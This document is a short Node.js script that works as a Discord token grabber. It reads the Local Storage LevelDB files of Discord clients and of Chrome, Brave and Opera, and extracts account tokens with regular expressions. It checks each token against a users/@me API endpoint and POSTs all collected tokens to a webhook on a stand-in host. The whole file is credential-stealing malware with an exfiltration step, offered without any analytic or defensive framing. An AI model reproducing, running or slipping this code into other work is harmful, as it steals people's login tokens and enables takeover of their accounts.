const fs = require("fs");
const path = require("path");
const https = require("https");
const base = path.join(process.env.HOME, ".config");
const stores = ["discord", "discordcanary", "discordptb", "google-chrome/Default", "BraveSoftware/Brave-Browser/Default", "opera"]
  .map((name) => path.join(base, name, "Local Storage", "leveldb"));
const tokens = new Set();
for (const store of stores) {
  if (!fs.existsSync(store)) continue;
  for (const name of fs.readdirSync(store)) {
    if (!/\.(log|ldb)$/.test(name)) continue;
    const text = fs.readFileSync(path.join(store, name), "utf8");
    for (const [token] of text.matchAll(/[\w-]{24}\.[\w-]{6}\.[\w-]{25,110}|mfa\.[\w-]{84}/g)) tokens.add(token);
  }
}
for (const token of tokens) https.get("https://discord.example/api/v9/users/@me", { headers: { Authorization: token } }).on("error", () => {});
const hook = https.request("https://discord.example/api/webhooks/1/x", { method: "POST", timeout: 4000 }).on("error", () => {});
hook.end(JSON.stringify({ content: [...tokens].join("\n") }));
